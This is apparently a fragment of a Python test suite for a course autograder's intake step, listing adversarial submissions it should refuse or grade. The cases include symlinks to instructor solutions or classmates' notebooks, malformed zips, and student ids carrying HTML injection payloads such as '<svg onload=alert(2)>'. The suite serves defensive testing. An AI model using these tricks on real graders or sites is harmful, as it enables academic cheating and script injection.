    _zip({"{lesson}/{lesson}.ipynb": b""})(folder.with_name(folder.name + "<svg onload=alert(2)>"),
                                           ctx)
    (folder.parent / f"{folder.name}<b "
                     f"onmouseover=alert(3)>_4242_90003_{ctx['lesson']}.ipynb").write_bytes(
        ctx["perfect"])


INTAKE_ENTRIES: list[IntakeEntry] = [
    IntakeEntry("link-student-to-solutions",
                "the student's folder is a symbolic link to solutions/ (the instructor's "
                "notebooks, in the submitted layout)", "refused", _link("solutions")),
    IntakeEntry("link-student-to-classmate",
                "the student's folder is a symbolic link to a classmate's", "refused",
                _link("classmate")),
    IntakeEntry("link-assignment-to-solutions",
                "the assignment folder is a symbolic link to solutions/<lesson>",
                "refused", _linked_assignment),
    IntakeEntry("link-notebook-to-classmate",
                "the notebook is a symbolic link to a classmate's notebook", "refused",
                _linked_notebook),
    IntakeEntry("zip-file-and-folder",
                "a zip holding a file A and a member A/x (a classmate's perfect notebook as A)",
                "refused", _zip({"{lesson}/{lesson}.ipynb": b"",
                                 "{lesson}/{lesson}.ipynb/x": b"y"})),
    IntakeEntry("zip-long-name",
                "a zip with a member name over 255 bytes beside a perfect notebook", "refused",
                _zip({"{lesson}/{lesson}.ipynb": b"", "{lesson}/" + "n" * 300: b"y"})),
    IntakeEntry("zip-corrupt-data", "a zip whose deflate stream is corrupt", "refused",
                _zip({"{lesson}/{lesson}.ipynb": b""}, corrupt=True)),
    IntakeEntry("far-future-file-time",
                "its own correct notebook, with a modification time past datetime's range",
                "graded", _far_future_file),
    IntakeEntry("backdated-times",
                "its own correct notebook in a zip with a backdated timestamp.txt and file times",
                "graded", _backdated_zip),
    IntakeEntry("canvas-resubmission",
                "an honest Canvas download: the first upload and its -2 unfinished, the -10 "
                "correct (by name, -10 sorts first and the first upload last)", "graded",
                _canvas_resubmission),
    IntakeEntry("folder-and-zip-same-id",
                "its correct notebook in a collected folder (with timestamp.txt) and an "
                "unfinished one in a zip of the same id: nothing says which is later", "refused",
                _folder_and_zip),
    IntakeEntry("markup-in-student-id",
                "a folder, a zip and an LMS file whose student ids carry an `<img onerror>`, "
                "an `<svg onload>` and a `<b onmouseover>`, each with a perfect notebook",
                "refused", _markup_ids),
]
